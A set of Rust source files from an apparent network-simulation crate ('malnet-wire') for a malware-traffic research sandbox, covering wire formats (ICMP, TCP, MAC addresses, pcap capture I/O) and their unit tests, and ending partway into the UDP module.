//! Error type shared by all wire-format parsers.

use std::fmt;

/// An error produced while parsing or emitting a wire format.
///
/// Parsers in this crate are *total*: any byte slice is either decoded
/// successfully or rejected with a `WireError` describing why. No parser
/// panics on malformed input — captured traffic is untrusted by design.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WireError {
    /// The buffer is shorter than the fixed part of the header.
    Truncated {
        /// Protocol layer that was being parsed.
        layer: &'static str,
        /// Bytes required by the header.
        needed: usize,
        /// Bytes actually available.
        got: usize,
    },
    /// A length field describes more payload than the buffer holds.
    LengthMismatch {
        /// Protocol layer that was being parsed.
        layer: &'static str,
        /// Length claimed by the header field.
        claimed: usize,
        /// Bytes actually available.
        got: usize,
    },
    /// A checksum did not verify.
    BadChecksum {
        /// Protocol layer whose checksum failed.
        layer: &'static str,
    },
    /// A version / type / magic field has an unsupported value.
    Unsupported {
        /// Protocol layer that was being parsed.
        layer: &'static str,
        /// Human description of the unsupported field.
        what: &'static str,
        /// Observed value.
        value: u64,
    },
    /// A field value is semantically invalid (e.g. header length < minimum).
    Malformed {
        /// Protocol layer that was being parsed.
        layer: &'static str,
        /// Human description of the problem.
        what: &'static str,
    },
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::Truncated { layer, needed, got } => {
                write!(f, "{layer}: truncated (need {needed} bytes, got {got})")
            }
            WireError::LengthMismatch {
                layer,
                claimed,
                got,
            } => write!(
                f,
                "{layer}: length field claims {claimed} bytes but only {got} available"
            ),
            WireError::BadChecksum { layer } => write!(f, "{layer}: checksum mismatch"),
            WireError::Unsupported { layer, what, value } => {
                write!(f, "{layer}: unsupported {what} ({value:#x})")
            }
            WireError::Malformed { layer, what } => write!(f, "{layer}: malformed {what}"),
        }
    }
}

impl std::error::Error for WireError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats_are_informative() {
        let e = WireError::Truncated {
            layer: "ipv4",
            needed: 20,
            got: 3,
        };
        assert_eq!(e.to_string(), "ipv4: truncated (need 20 bytes, got 3)");
        let e = WireError::BadChecksum { layer: "tcp" };
        assert!(e.to_string().contains("tcp"));
        let e = WireError::Unsupported {
            layer: "eth",
            what: "ethertype",
            value: 0x86dd,
        };
        assert!(e.to_string().contains("0x86dd"));
    }

    #[test]
    fn error_is_std_error() {
        fn takes_err<E: std::error::Error>(_e: E) {}
        takes_err(WireError::BadChecksum { layer: "udp" });
    }
}
