//! # malnet-wire — packet wire formats and pcap I/O
//!
//! This crate is the lowest substrate of the MalNet reproduction: every
//! byte that crosses the simulated Internet is encoded by (and later parsed
//! back with) the formats defined here. It provides:
//!
//! * **Link layer**: Ethernet II frames ([`ethernet`]).
//! * **Network layer**: IPv4 headers with options-free fixed encoding and
//!   real header checksums ([`ipv4`]), ICMP ([`icmp`]).
//! * **Transport layer**: TCP ([`tcp`]) and UDP ([`udp`]) with genuine
//!   pseudo-header checksums.
//! * **Application helpers**: a small DNS message codec ([`dns`]) used by
//!   the simulated resolver and by InetSim-style DNS faking.
//! * **Capture**: the classic libpcap on-disk format ([`pcap`]), so traffic
//!   captured from the sandbox can be inspected with `tcpdump`/Wireshark
//!   and is re-parsed by the analysis pipeline from the file bytes alone.
//! * **Composition**: a logical [`packet::Packet`] that assembles/parses a
//!   full Ethernet/IPv4/transport stack in one call.
//!
//! The design follows smoltcp's "wire" philosophy: simple, explicit
//! encode/decode functions over byte slices; all parsers are total
//! (returning [`WireError`] on malformed input, never panicking).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod checksum;
pub mod dns;
pub mod error;
pub mod ethernet;
pub mod icmp;
pub mod ipv4;
pub mod mac;
pub mod packet;
pub mod pcap;
pub mod tcp;
pub mod udp;

pub use error::WireError;
pub use ethernet::{EtherType, EthernetFrame};
pub use icmp::IcmpMessage;
pub use ipv4::{IpProtocol, Ipv4Header};
pub use mac::MacAddr;
pub use packet::{Packet, Transport};
pub use pcap::{PcapPacket, PcapReader, PcapWriter};
pub use tcp::{TcpFlags, TcpHeader};
pub use udp::UdpHeader;
