//! ICMPv4 messages.
//!
//! The simulator needs echo (ping), destination-unreachable (both as a
//! network error signal and as the BLACKNURSE attack payload, ICMP type 3
//! code 3), and passes through anything else uninterpreted.

use crate::checksum;
use crate::error::WireError;

/// Minimum ICMP header length.
pub const HEADER_LEN: usize = 8;

/// A decoded ICMP message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum IcmpMessage {
    /// Echo request (type 8).
    EchoRequest {
        /// Identifier (usually the sender's PID).
        ident: u16,
        /// Sequence number.
        seq: u16,
        /// Echo payload.
        payload: Vec<u8>,
    },
    /// Echo reply (type 0).
    EchoReply {
        /// Identifier copied from the request.
        ident: u16,
        /// Sequence number copied from the request.
        seq: u16,
        /// Echo payload copied from the request.
        payload: Vec<u8>,
    },
    /// Destination unreachable (type 3). The BLACKNURSE DDoS attack floods
    /// code 3 (port unreachable) messages.
    DestinationUnreachable {
        /// Unreachable code (3 = port unreachable).
        code: u8,
        /// Original datagram excerpt.
        payload: Vec<u8>,
    },
    /// Any other ICMP type, preserved verbatim.
    Other {
        /// ICMP type.
        icmp_type: u8,
        /// ICMP code.
        code: u8,
        /// Rest-of-header plus payload bytes.
        payload: Vec<u8>,
    },
}

impl IcmpMessage {
    /// ICMP type byte of this message.
    pub fn icmp_type(&self) -> u8 {
        match self {
            IcmpMessage::EchoReply { .. } => 0,
            IcmpMessage::DestinationUnreachable { .. } => 3,
            IcmpMessage::EchoRequest { .. } => 8,
            IcmpMessage::Other { icmp_type, .. } => *icmp_type,
        }
    }

    /// Serialize to wire bytes with a correct checksum.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(HEADER_LEN + 16);
        match self {
            IcmpMessage::EchoRequest {
                ident,
                seq,
                payload,
            }
            | IcmpMessage::EchoReply {
                ident,
                seq,
                payload,
            } => {
                out.push(self.icmp_type());
                out.push(0);
                out.extend_from_slice(&[0, 0]);
                out.extend_from_slice(&ident.to_be_bytes());
                out.extend_from_slice(&seq.to_be_bytes());
                out.extend_from_slice(payload);
            }
            IcmpMessage::DestinationUnreachable { code, payload } => {
                out.push(3);
                out.push(*code);
                out.extend_from_slice(&[0, 0]);
                out.extend_from_slice(&[0, 0, 0, 0]); // unused
                out.extend_from_slice(payload);
            }
            IcmpMessage::Other {
                icmp_type,
                code,
                payload,
            } => {
                out.push(*icmp_type);
                out.push(*code);
                out.extend_from_slice(&[0, 0]);
                out.extend_from_slice(payload);
            }
        }
        let c = checksum::checksum(&out);
        out[2..4].copy_from_slice(&c.to_be_bytes());
        out
    }

    /// Parse from wire bytes, verifying the checksum.
    pub fn decode(data: &[u8]) -> Result<Self, WireError> {
        if data.len() < 4 {
            return Err(WireError::Truncated {
                layer: "icmp",
                needed: 4,
                got: data.len(),
            });
        }
        if !checksum::verify(data) {
            return Err(WireError::BadChecksum { layer: "icmp" });
        }
        let icmp_type = data[0];
        let code = data[1];
        match icmp_type {
            0 | 8 => {
                if data.len() < HEADER_LEN {
                    return Err(WireError::Truncated {
                        layer: "icmp",
                        needed: HEADER_LEN,
                        got: data.len(),
                    });
                }
                let ident = u16::from_be_bytes([data[4], data[5]]);
                let seq = u16::from_be_bytes([data[6], data[7]]);
                let payload = data[8..].to_vec();
                Ok(if icmp_type == 8 {
                    IcmpMessage::EchoRequest {
                        ident,
                        seq,
                        payload,
                    }
                } else {
                    IcmpMessage::EchoReply {
                        ident,
                        seq,
                        payload,
                    }
                })
            }
            3 => {
                if data.len() < HEADER_LEN {
                    return Err(WireError::Truncated {
                        layer: "icmp",
                        needed: HEADER_LEN,
                        got: data.len(),
                    });
                }
                Ok(IcmpMessage::DestinationUnreachable {
                    code,
                    payload: data[8..].to_vec(),
                })
            }
            _ => Ok(IcmpMessage::Other {
                icmp_type,
                code,
                payload: data[4..].to_vec(),
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn echo_roundtrip() {
        let m = IcmpMessage::EchoRequest {
            ident: 0x1234,
            seq: 7,
            payload: b"abcdefgh".to_vec(),
        };
        let bytes = m.encode();
        assert_eq!(IcmpMessage::decode(&bytes).unwrap(), m);
        assert_eq!(m.icmp_type(), 8);
    }

    #[test]
    fn blacknurse_payload_roundtrip() {
        let m = IcmpMessage::DestinationUnreachable {
            code: 3,
            payload: vec![0x45, 0, 0, 28],
        };
        let bytes = m.encode();
        assert_eq!(bytes[0], 3);
        assert_eq!(bytes[1], 3);
        assert_eq!(IcmpMessage::decode(&bytes).unwrap(), m);
    }

    #[test]
    fn other_types_preserved() {
        let m = IcmpMessage::Other {
            icmp_type: 11,
            code: 0,
            payload: vec![1, 2, 3, 4, 5, 6],
        };
        assert_eq!(IcmpMessage::decode(&m.encode()).unwrap(), m);
    }

    #[test]
    fn corrupt_checksum_rejected() {
        let mut bytes = IcmpMessage::EchoReply {
            ident: 1,
            seq: 1,
            payload: vec![],
        }
        .encode();
        bytes[4] ^= 0xff;
        assert_eq!(
            IcmpMessage::decode(&bytes).unwrap_err(),
            WireError::BadChecksum { layer: "icmp" }
        );
    }
}
