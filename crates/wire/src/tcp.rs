//! TCP segment encoding and decoding.
//!
//! Options are not emitted; an MSS option on SYN segments is tolerated on
//! decode. The pseudo-header checksum is computed for real so captures are
//! Wireshark-clean.

use std::net::Ipv4Addr;

use crate::checksum::Checksum;
use crate::error::WireError;

/// Minimum TCP header length (no options).
pub const HEADER_LEN: usize = 20;

/// TCP flag bits.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct TcpFlags(pub u8);

impl TcpFlags {
    /// FIN flag.
    pub const FIN: TcpFlags = TcpFlags(0x01);
    /// SYN flag.
    pub const SYN: TcpFlags = TcpFlags(0x02);
    /// RST flag.
    pub const RST: TcpFlags = TcpFlags(0x04);
    /// PSH flag.
    pub const PSH: TcpFlags = TcpFlags(0x08);
    /// ACK flag.
    pub const ACK: TcpFlags = TcpFlags(0x10);
    /// SYN|ACK combination.
    pub const SYN_ACK: TcpFlags = TcpFlags(0x12);
    /// PSH|ACK combination (typical data segment).
    pub const PSH_ACK: TcpFlags = TcpFlags(0x18);
    /// FIN|ACK combination.
    pub const FIN_ACK: TcpFlags = TcpFlags(0x11);

    /// True if all bits of `other` are set in `self`.
    pub fn contains(self, other: TcpFlags) -> bool {
        self.0 & other.0 == other.0
    }

    /// Union of two flag sets.
    pub fn union(self, other: TcpFlags) -> TcpFlags {
        TcpFlags(self.0 | other.0)
    }

    /// True if the SYN bit is set.
    pub fn syn(self) -> bool {
        self.contains(TcpFlags::SYN)
    }
    /// True if the ACK bit is set.
    pub fn ack(self) -> bool {
        self.contains(TcpFlags::ACK)
    }
    /// True if the RST bit is set.
    pub fn rst(self) -> bool {
        self.contains(TcpFlags::RST)
    }
    /// True if the FIN bit is set.
    pub fn fin(self) -> bool {
        self.contains(TcpFlags::FIN)
    }
    /// True if the PSH bit is set.
    pub fn psh(self) -> bool {
        self.contains(TcpFlags::PSH)
    }
}

impl std::fmt::Display for TcpFlags {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut names = Vec::new();
        if self.syn() {
            names.push("SYN");
        }
        if self.ack() {
            names.push("ACK");
        }
        if self.rst() {
            names.push("RST");
        }
        if self.fin() {
            names.push("FIN");
        }
        if self.psh() {
            names.push("PSH");
        }
        if names.is_empty() {
            write!(f, "-")
        } else {
            write!(f, "{}", names.join("|"))
        }
    }
}

/// A decoded TCP header.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TcpHeader {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Sequence number.
    pub seq: u32,
    /// Acknowledgement number.
    pub ack: u32,
    /// Flag bits.
    pub flags: TcpFlags,
    /// Receive window.
    pub window: u16,
}

impl TcpHeader {
    /// Serialize header + payload with a correct pseudo-header checksum.
    pub fn encode_with_payload(&self, src: Ipv4Addr, dst: Ipv4Addr, payload: &[u8]) -> Vec<u8> {
        let total = HEADER_LEN + payload.len();
        let mut out = Vec::with_capacity(total);
        out.extend_from_slice(&self.src_port.to_be_bytes());
        out.extend_from_slice(&self.dst_port.to_be_bytes());
        out.extend_from_slice(&self.seq.to_be_bytes());
        out.extend_from_slice(&self.ack.to_be_bytes());
        out.push((HEADER_LEN as u8 / 4) << 4); // data offset
        out.push(self.flags.0);
        out.extend_from_slice(&self.window.to_be_bytes());
        out.extend_from_slice(&[0, 0]); // checksum placeholder
        out.extend_from_slice(&[0, 0]); // urgent pointer
        out.extend_from_slice(payload);
        let mut c = Checksum::new();
        c.push_pseudo_header(src, dst, 6, total as u16);
        c.push(&out);
        let sum = c.finish();
        out[16..18].copy_from_slice(&sum.to_be_bytes());
        out
    }

    /// Parse a TCP segment, verifying the pseudo-header checksum, and
    /// return the header plus payload slice.
    pub fn decode(src: Ipv4Addr, dst: Ipv4Addr, data: &[u8]) -> Result<(Self, &[u8]), WireError> {
        if data.len() < HEADER_LEN {
            return Err(WireError::Truncated {
                layer: "tcp",
                needed: HEADER_LEN,
                got: data.len(),
            });
        }
        let data_off = usize::from(data[12] >> 4) * 4;
        if data_off < HEADER_LEN {
            return Err(WireError::Malformed {
                layer: "tcp",
                what: "data offset below minimum",
            });
        }
        if data.len() < data_off {
            return Err(WireError::Truncated {
                layer: "tcp",
                needed: data_off,
                got: data.len(),
            });
        }
        let mut c = Checksum::new();
        c.push_pseudo_header(src, dst, 6, data.len() as u16);
        c.push(data);
        if c.finish() != 0 {
            return Err(WireError::BadChecksum { layer: "tcp" });
        }
        let hdr = TcpHeader {
            src_port: u16::from_be_bytes([data[0], data[1]]),
            dst_port: u16::from_be_bytes([data[2], data[3]]),
            seq: u32::from_be_bytes([data[4], data[5], data[6], data[7]]),
            ack: u32::from_be_bytes([data[8], data[9], data[10], data[11]]),
            flags: TcpFlags(data[13]),
            window: u16::from_be_bytes([data[14], data[15]]),
        };
        // Guarded: len >= data_off checked above. lint: index-ok
        Ok((hdr, &data[data_off..]))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: Ipv4Addr = Ipv4Addr::new(10, 1, 2, 3);
    const B: Ipv4Addr = Ipv4Addr::new(172, 16, 0, 9);

    fn hdr(flags: TcpFlags) -> TcpHeader {
        TcpHeader {
            src_port: 45000,
            dst_port: 23,
            seq: 0xdeadbeef,
            ack: 0x01020304,
            flags,
            window: 65535,
        }
    }

    #[test]
    fn roundtrip_with_payload() {
        let h = hdr(TcpFlags::PSH_ACK);
        let bytes = h.encode_with_payload(A, B, b"hello");
        let (g, payload) = TcpHeader::decode(A, B, &bytes).unwrap();
        assert_eq!(g, h);
        assert_eq!(payload, b"hello");
    }

    #[test]
    fn checksum_binds_addresses() {
        let h = hdr(TcpFlags::SYN);
        let bytes = h.encode_with_payload(A, B, &[]);
        // Note: the ones-complement sum is commutative, so swapping src and
        // dst does NOT change it; decoding with a genuinely different
        // address must fail the pseudo-header sum.
        let c = Ipv4Addr::new(10, 1, 2, 4);
        assert_eq!(
            TcpHeader::decode(A, c, &bytes).unwrap_err(),
            WireError::BadChecksum { layer: "tcp" }
        );
    }

    #[test]
    fn corrupt_payload_detected() {
        let h = hdr(TcpFlags::PSH_ACK);
        let mut bytes = h.encode_with_payload(A, B, b"payload");
        let n = bytes.len();
        bytes[n - 1] ^= 0x40;
        assert!(TcpHeader::decode(A, B, &bytes).is_err());
    }

    #[test]
    fn flags_display_and_predicates() {
        assert_eq!(TcpFlags::SYN_ACK.to_string(), "SYN|ACK");
        assert!(TcpFlags::SYN_ACK.syn());
        assert!(TcpFlags::SYN_ACK.ack());
        assert!(!TcpFlags::SYN_ACK.rst());
        assert_eq!(TcpFlags::default().to_string(), "-");
        assert_eq!(TcpFlags::SYN.union(TcpFlags::ACK), TcpFlags::SYN_ACK);
    }

    #[test]
    fn truncated_rejected() {
        assert!(matches!(
            TcpHeader::decode(A, B, &[0; 10]).unwrap_err(),
            WireError::Truncated { layer: "tcp", .. }
        ));
    }
}
