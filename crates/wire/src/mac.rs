//! Ethernet MAC addresses.

use std::fmt;

/// A 48-bit Ethernet MAC address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct MacAddr(pub [u8; 6]);

impl MacAddr {
    /// The broadcast address `ff:ff:ff:ff:ff:ff`.
    pub const BROADCAST: MacAddr = MacAddr([0xff; 6]);
    /// The all-zero address, used as a placeholder by the simulator.
    pub const ZERO: MacAddr = MacAddr([0; 6]);

    /// Deterministically derive a locally-administered unicast MAC from a
    /// host identifier. The simulator gives every host a stable MAC this way.
    pub fn from_host_id(id: u32) -> Self {
        let b = id.to_be_bytes();
        // 0x02 prefix = locally administered, unicast.
        MacAddr([0x02, 0x4d, b[0], b[1], b[2], b[3]])
    }

    /// True if this is the broadcast address.
    pub fn is_broadcast(&self) -> bool {
        *self == Self::BROADCAST
    }

    /// True if the multicast (group) bit is set.
    pub fn is_multicast(&self) -> bool {
        self.0[0] & 0x01 != 0
    }
}

impl fmt::Display for MacAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            self.0[0], self.0[1], self.0[2], self.0[3], self.0[4], self.0[5]
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_colon_hex() {
        let m = MacAddr([0x02, 0x4d, 0x00, 0x00, 0x01, 0xff]);
        assert_eq!(m.to_string(), "02:4d:00:00:01:ff");
    }

    #[test]
    fn host_id_macs_are_stable_and_unique() {
        let a = MacAddr::from_host_id(7);
        let b = MacAddr::from_host_id(7);
        let c = MacAddr::from_host_id(8);
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert!(!a.is_multicast());
        assert!(!a.is_broadcast());
    }

    #[test]
    fn broadcast_properties() {
        assert!(MacAddr::BROADCAST.is_broadcast());
        assert!(MacAddr::BROADCAST.is_multicast());
    }
}
