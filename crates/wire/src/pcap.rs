//! Classic libpcap capture-file format (the `tcpdump` on-disk format).
//!
//! We write microsecond-resolution little-endian pcap with
//! LINKTYPE_ETHERNET, and read both byte orders. This is the interchange
//! format between the sandbox (which records all malware traffic, exactly
//! as CnCHunter does) and the analysis pipeline (which trusts only file
//! bytes, not simulator state).

use std::io::{self, Read, Write};

use malnet_telemetry::Telemetry;

use crate::error::WireError;
use crate::packet::Packet;

/// Little-endian magic for microsecond timestamps.
pub const MAGIC_LE: u32 = 0xa1b2c3d4;
/// LINKTYPE_ETHERNET.
pub const LINKTYPE_ETHERNET: u32 = 1;
/// Snap length we record: full packets, standard tcpdump default x4.
pub const SNAPLEN: u32 = 262_144;

/// One captured packet: a timestamp in microseconds plus frame bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PcapPacket {
    /// Capture timestamp, microseconds since the epoch of the capture
    /// (the simulation uses its virtual clock origin).
    pub ts_micros: u64,
    /// Raw Ethernet frame bytes.
    pub frame: Vec<u8>,
}

impl PcapPacket {
    /// Parse the frame into a logical [`Packet`].
    pub fn parse(&self) -> Result<Packet, WireError> {
        Packet::decode_frame(&self.frame)
    }
}

/// Streaming pcap writer.
pub struct PcapWriter<W: Write> {
    inner: W,
    packets_written: u64,
    records_encoded: malnet_telemetry::Counter,
    bytes_encoded: malnet_telemetry::Counter,
}

/// Size of the pcap global header in bytes.
const GLOBAL_HEADER_LEN: u64 = 24;
/// Size of each per-record header in bytes.
const RECORD_HEADER_LEN: u64 = 16;

impl<W: Write> PcapWriter<W> {
    /// Create a writer and emit the global header.
    pub fn new(inner: W) -> io::Result<Self> {
        Self::with_telemetry(inner, &Telemetry::disabled())
    }

    /// Like [`PcapWriter::new`], but counting encoded records and bytes
    /// into `wire.pcap_records_encoded` / `wire.pcap_bytes_encoded`.
    pub fn with_telemetry(mut inner: W, tel: &Telemetry) -> io::Result<Self> {
        inner.write_all(&MAGIC_LE.to_le_bytes())?;
        inner.write_all(&2u16.to_le_bytes())?; // version major
        inner.write_all(&4u16.to_le_bytes())?; // version minor
        inner.write_all(&0i32.to_le_bytes())?; // thiszone
        inner.write_all(&0u32.to_le_bytes())?; // sigfigs
        inner.write_all(&SNAPLEN.to_le_bytes())?;
        inner.write_all(&LINKTYPE_ETHERNET.to_le_bytes())?;
        let bytes_encoded = tel.counter("wire.pcap_bytes_encoded");
        bytes_encoded.add(GLOBAL_HEADER_LEN);
        Ok(PcapWriter {
            inner,
            packets_written: 0,
            records_encoded: tel.counter("wire.pcap_records_encoded"),
            bytes_encoded,
        })
    }

    /// Append one captured frame.
    pub fn write_packet(&mut self, ts_micros: u64, frame: &[u8]) -> io::Result<()> {
        let secs = (ts_micros / 1_000_000) as u32;
        let micros = (ts_micros % 1_000_000) as u32;
        self.inner.write_all(&secs.to_le_bytes())?;
        self.inner.write_all(&micros.to_le_bytes())?;
        self.inner.write_all(&(frame.len() as u32).to_le_bytes())?;
        self.inner.write_all(&(frame.len() as u32).to_le_bytes())?;
        self.inner.write_all(frame)?;
        self.packets_written += 1;
        self.records_encoded.incr();
        self.bytes_encoded
            .add(RECORD_HEADER_LEN + frame.len() as u64);
        Ok(())
    }

    /// Serialize and append a logical packet.
    pub fn write(&mut self, ts_micros: u64, packet: &Packet) -> io::Result<()> {
        self.write_packet(ts_micros, &packet.encode_frame())
    }

    /// Number of packets written so far.
    pub fn packets_written(&self) -> u64 {
        self.packets_written
    }

    /// Flush and return the underlying writer.
    pub fn finish(mut self) -> io::Result<W> {
        self.inner.flush()?;
        Ok(self.inner)
    }
}

/// In-memory convenience: serialize a packet list to pcap bytes.
pub fn to_bytes(packets: &[(u64, Packet)]) -> Vec<u8> {
    // io::Write on Vec<u8> is infallible. lint: panic-ok
    let mut w = PcapWriter::new(Vec::new()).expect("vec write cannot fail");
    for (ts, p) in packets {
        // io::Write on Vec<u8> is infallible. lint: panic-ok
        w.write(*ts, p).expect("vec write cannot fail");
    }
    // io::Write on Vec<u8> is infallible. lint: panic-ok
    w.finish().expect("vec flush cannot fail")
}

/// Streaming pcap reader, handling both byte orders.
#[derive(Debug)]
pub struct PcapReader<R: Read> {
    inner: R,
    swapped: bool,
    /// Link type from the global header.
    pub linktype: u32,
}

impl<R: Read> PcapReader<R> {
    /// Open a capture, parsing the global header.
    pub fn new(mut inner: R) -> Result<Self, WireError> {
        let mut hdr = [0u8; 24];
        read_exact(&mut inner, &mut hdr, "pcap global header")?;
        let magic = u32::from_le_bytes([hdr[0], hdr[1], hdr[2], hdr[3]]);
        let swapped = match magic {
            MAGIC_LE => false,
            m if m == MAGIC_LE.swap_bytes() => true,
            m => {
                return Err(WireError::Unsupported {
                    layer: "pcap",
                    what: "magic",
                    value: u64::from(m),
                })
            }
        };
        let u32_at = |b: &[u8; 24], i: usize| {
            // Fixed 24-byte array; callers pass i <= 20. lint: index-ok
            let v = [b[i], b[i + 1], b[i + 2], b[i + 3]];
            if swapped {
                u32::from_be_bytes(v)
            } else {
                u32::from_le_bytes(v)
            }
        };
        let linktype = u32_at(&hdr, 20);
        if linktype != LINKTYPE_ETHERNET {
            return Err(WireError::Unsupported {
                layer: "pcap",
                what: "linktype",
                value: u64::from(linktype),
            });
        }
        Ok(PcapReader {
            inner,
            swapped,
            linktype,
        })
    }

    /// Read the next packet; `Ok(None)` at clean end-of-file.
    pub fn next_packet(&mut self) -> Result<Option<PcapPacket>, WireError> {
        let mut rec = [0u8; 16];
        match self.inner.read(&mut rec[..1]) {
            Ok(0) => return Ok(None),
            Ok(_) => {}
            Err(_) => {
                return Err(WireError::Truncated {
                    layer: "pcap",
                    needed: 16,
                    got: 0,
                })
            }
        }
        read_exact(&mut self.inner, &mut rec[1..], "pcap record header")?;
        let u32_at = |b: &[u8; 16], i: usize| {
            // Fixed 16-byte array; callers pass i <= 12. lint: index-ok
            let v = [b[i], b[i + 1], b[i + 2], b[i + 3]];
            if self.swapped {
                u32::from_be_bytes(v)
            } else {
                u32::from_le_bytes(v)
            }
        };
        let secs = u32_at(&rec, 0);
        let micros = u32_at(&rec, 4);
        let caplen = u32_at(&rec, 8) as usize;
        if caplen > SNAPLEN as usize {
            return Err(WireError::Malformed {
                layer: "pcap",
                what: "caplen exceeds snaplen",
            });
        }
        let mut frame = vec![0u8; caplen];
        read_exact(&mut self.inner, &mut frame, "pcap packet data")?;
        Ok(Some(PcapPacket {
            ts_micros: u64::from(secs) * 1_000_000 + u64::from(micros),
            frame,
        }))
    }

    /// Collect all remaining packets.
    pub fn read_all(mut self) -> Result<Vec<PcapPacket>, WireError> {
        let mut out = Vec::new();
        while let Some(p) = self.next_packet()? {
            out.push(p);
        }
        Ok(out)
    }
}

/// Parse a full capture held in memory into logical packets with
/// timestamps, skipping frames that fail to parse (counted in `.1`).
pub fn parse_capture(bytes: &[u8]) -> Result<(Vec<(u64, Packet)>, usize), WireError> {
    let reader = PcapReader::new(bytes)?;
    let mut out = Vec::new();
    let mut skipped = 0usize;
    for raw in reader.read_all()? {
        match raw.parse() {
            Ok(p) => out.push((raw.ts_micros, p)),
            Err(_) => skipped += 1,
        }
    }
    Ok((out, skipped))
}

fn read_exact<R: Read>(r: &mut R, buf: &mut [u8], what: &'static str) -> Result<(), WireError> {
    r.read_exact(buf).map_err(|_| WireError::Truncated {
        layer: "pcap",
        needed: buf.len(),
        got: 0,
    })?;
    let _ = what;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tcp::TcpFlags;
    use std::net::Ipv4Addr;

    fn sample_packets() -> Vec<(u64, Packet)> {
        let a = Ipv4Addr::new(10, 0, 0, 1);
        let b = Ipv4Addr::new(10, 0, 0, 2);
        vec![
            (
                1_000_000,
                Packet::tcp(a, 1000, b, 23, 1, 0, TcpFlags::SYN, vec![]),
            ),
            (
                1_500_000,
                Packet::tcp(b, 23, a, 1000, 900, 2, TcpFlags::SYN_ACK, vec![]),
            ),
            (2_000_000, Packet::udp(a, 5555, b, 53, b"dns?".to_vec())),
        ]
    }

    #[test]
    fn write_then_read_roundtrip() {
        let pkts = sample_packets();
        let bytes = to_bytes(&pkts);
        let (parsed, skipped) = parse_capture(&bytes).unwrap();
        assert_eq!(skipped, 0);
        assert_eq!(parsed, pkts);
    }

    #[test]
    fn global_header_is_valid_tcpdump_magic() {
        let bytes = to_bytes(&sample_packets());
        assert_eq!(&bytes[0..4], &MAGIC_LE.to_le_bytes());
        assert_eq!(u16::from_le_bytes([bytes[4], bytes[5]]), 2);
        assert_eq!(u16::from_le_bytes([bytes[6], bytes[7]]), 4);
    }

    #[test]
    fn big_endian_captures_are_readable() {
        // Build a minimal big-endian capture by hand.
        let frame = sample_packets()[0].1.encode_frame();
        let mut bytes = Vec::new();
        bytes.extend_from_slice(&MAGIC_LE.to_be_bytes());
        bytes.extend_from_slice(&2u16.to_be_bytes());
        bytes.extend_from_slice(&4u16.to_be_bytes());
        bytes.extend_from_slice(&0u32.to_be_bytes());
        bytes.extend_from_slice(&0u32.to_be_bytes());
        bytes.extend_from_slice(&SNAPLEN.to_be_bytes());
        bytes.extend_from_slice(&LINKTYPE_ETHERNET.to_be_bytes());
        bytes.extend_from_slice(&3u32.to_be_bytes()); // secs
        bytes.extend_from_slice(&7u32.to_be_bytes()); // micros
        bytes.extend_from_slice(&(frame.len() as u32).to_be_bytes());
        bytes.extend_from_slice(&(frame.len() as u32).to_be_bytes());
        bytes.extend_from_slice(&frame);
        let (parsed, _) = parse_capture(&bytes).unwrap();
        assert_eq!(parsed.len(), 1);
        assert_eq!(parsed[0].0, 3_000_007);
    }

    #[test]
    fn truncated_record_reports_error() {
        let mut bytes = to_bytes(&sample_packets());
        bytes.truncate(bytes.len() - 3);
        let reader = PcapReader::new(&bytes[..]).unwrap();
        assert!(reader.read_all().is_err());
    }

    #[test]
    fn bad_magic_rejected() {
        let bytes = [0u8; 24];
        assert!(matches!(
            PcapReader::new(&bytes[..]).unwrap_err(),
            WireError::Unsupported { what: "magic", .. }
        ));
    }

    #[test]
    fn corrupt_frame_is_skipped_not_fatal() {
        let mut pkts = sample_packets();
        let bytes = to_bytes(&pkts);
        // Append a record with garbage frame bytes.
        let mut w = PcapWriter::new(Vec::new()).unwrap();
        let _ = &mut w;
        let mut all = bytes.clone();
        let garbage = [0xffu8; 30];
        all.extend_from_slice(&9u32.to_le_bytes());
        all.extend_from_slice(&0u32.to_le_bytes());
        all.extend_from_slice(&(garbage.len() as u32).to_le_bytes());
        all.extend_from_slice(&(garbage.len() as u32).to_le_bytes());
        all.extend_from_slice(&garbage);
        let (parsed, skipped) = parse_capture(&all).unwrap();
        assert_eq!(parsed.len(), pkts.len());
        assert_eq!(skipped, 1);
        pkts.clear();
    }

    #[test]
    fn empty_capture_is_ok() {
        let bytes = to_bytes(&[]);
        let (parsed, skipped) = parse_capture(&bytes).unwrap();
        assert!(parsed.is_empty());
        assert_eq!(skipped, 0);
    }

    #[test]
    fn packets_written_counter() {
        let mut w = PcapWriter::new(Vec::new()).unwrap();
        for (ts, p) in sample_packets() {
            w.write(ts, &p).unwrap();
        }
        assert_eq!(w.packets_written(), 3);
    }
}
