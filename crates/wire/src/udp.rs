//! UDP datagram encoding and decoding.

use std::net::Ipv4Addr;

use crate::checksum::Checksum;
use crate::error::WireError;

/// UDP header length.
pub const HEADER_LEN: usize = 8;

/// A decoded UDP header.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct UdpHeader {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
}

impl UdpHeader {
    /// Serialize header + payload with a correct pseudo-header checksum.
